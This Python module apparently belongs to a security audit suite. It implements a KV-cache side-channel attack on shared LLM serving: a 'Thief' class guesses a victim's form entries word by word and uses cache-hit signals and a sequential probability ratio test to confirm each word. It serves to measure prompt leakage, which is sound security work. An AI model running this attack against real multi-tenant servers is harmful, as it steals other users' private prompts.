"""A prompt thief: guesses a form's words one after the other, and asks the server which is right.

After "I Know What You Asked: Prompt Leakage via KV-Cache Sharing in Multi-Tenant LLM Serving" (NDSS
2025) and "The Early Bird Catches the Leak" (2024), which guess token by token.
"""

import math
from collections.abc import Sequence
from dataclasses import dataclass, field

from scipy.stats import binomtest

from saltwall_security.client import Client
from saltwall_security.prober import Prober
from saltwall_security.suite import Audit
from saltwall_security.suites.recovery.oracle import Oracle
from saltwall_security.suites.recovery.template import DICTIONARY, SECRET_WORDS, Form

ALPHA, ATTACKS = 0.01, 2
"""The chance that an attack takes any wrong word for right, and how many there are."""
BETA = 0.05
"""The chance that it overlooks a right one."""
_EACH = ALPHA / (SECRET_WORDS * len(DICTIONARY))
ACCEPT, REJECT = math.log((1 - BETA) / _EACH), math.log(BETA / (1 - _EACH))


class OutOfTime(Exception):
    """The suite's time is up."""


@dataclass
class Theft:
    """How far an attack has come.

    Args:
        words: what the thief takes for the secret, so far.
        probes: how many guesses it sent for each word, the one it failed at included.
        probing_s: what they took.
        ended: it went on to its end; otherwise time was up.
    """

    words: list[str] = field(default_factory=list)
    probes: list[int] = field(default_factory=list)
    probing_s: float = 0.0
    ended: bool = False

    def right(self, secret: Sequence[str]) -> int:
        """How many words it has right."""
        return sum(word == true for word, true in zip(self.words, secret, strict=False))


def beyond_chance(oracle: Oracle, right: int) -> bool:
    """Whether so many right words are more than luck, at `ALPHA` over all attacks, however often
    an oracle errs.

    A count is no guess: one word is enough.
    """
    if oracle.counts:
        return right > 0
    luck = binomtest(right, SECRET_WORDS, 1 / len(DICTIONARY), "greater").pvalue
    return bool(ATTACKS * luck <= ALPHA)


class Thief:
    """Steals what a victim has filled into a form, by guesses of its own."""

    def __init__(
        self, audit: Audit, probe: Prober, oracle: Oracle, victim: Client, spy: Client
    ) -> None:
        self._audit, self._probe, self._oracle = audit, probe, oracle
        self._victim, self._spy = victim, spy

    async def steal(self, secret: Sequence[str], left_s: float) -> Theft:
        """Word by word: the next can be guessed only after those before it.

        Args:
            secret: what the victim fills in; it is sent, and not looked at.
            left_s: seconds of the suite's time that must be left, unless a word has been found.
        """
        theft = Theft()
        began_s = self._audit.left_s
        try:
            while len(theft.words) < len(secret):
                theft.probes.append(0)
                word = await self._word(secret, theft, 0.0 if theft.words else left_s)
                if word is None:
                    break
                theft.words.append(word)
            theft.ended = True
        except OutOfTime:
            pass
        theft.probing_s = began_s - self._audit.left_s
        return theft

    async def _word(self, secret: Sequence[str], theft: Theft, left_s: float) -> str | None:
        """The guess that passes a sequential probability ratio test (Wald, 1945), if one does.

        A guess is asked for once in a session: from then on the thief's own copy is cached. To ask
        again it waits for the victim's next session.
        """
        form, known_tokens = await self._session(secret, theft.words)
        asked: set[str] = set()
        for guess in self._guesses():
            evidence = 0.0
            while REJECT < evidence < ACCEPT:
                if self._audit.left_s < left_s:
                    raise OutOfTime
                if guess in asked:
                    form, known_tokens = await self._session(secret, theft.words)
                    asked.clear()
                answer = await self._probe(self._spy, form.text([*theft.words, guess]))
                asked.add(guess)
                theft.probes[-1] += 1
                evidence += self._weight(self._oracle.cached(answer, known_tokens))
            if evidence >= ACCEPT:
                return guess
        return None

    def _guesses(self) -> list[str]:
        """The dictionary in random order, once more for each pass."""
        size = len(DICTIONARY)
        passes = range(self._oracle.passes)
        return [guess for _ in passes for guess in self._audit.rng.sample(DICTIONARY, size)]

    async def _session(self, secret: Sequence[str], known: Sequence[str]) -> tuple[Form, int]:
        """The victim fills in the form; the thief sends what it knows of it, and counts that."""
        words = self._audit.words
        size = self._oracle.words
        form = Form(words(size), [words(size) for _ in range(SECRET_WORDS)])
        await self._probe(self._victim, form.text(secret))
        answer = await self._probe(self._spy, form.text(known))
        return form, answer.prompt_tokens or 0

    def _weight(self, cached: bool) -> float:
        """What an observation says for the guess (log-likelihood ratio)."""
        misses, errs = self._oracle.misses, self._oracle.errs
        return math.log((1 - misses) / errs) if cached else math.log(misses / (1 - errs))
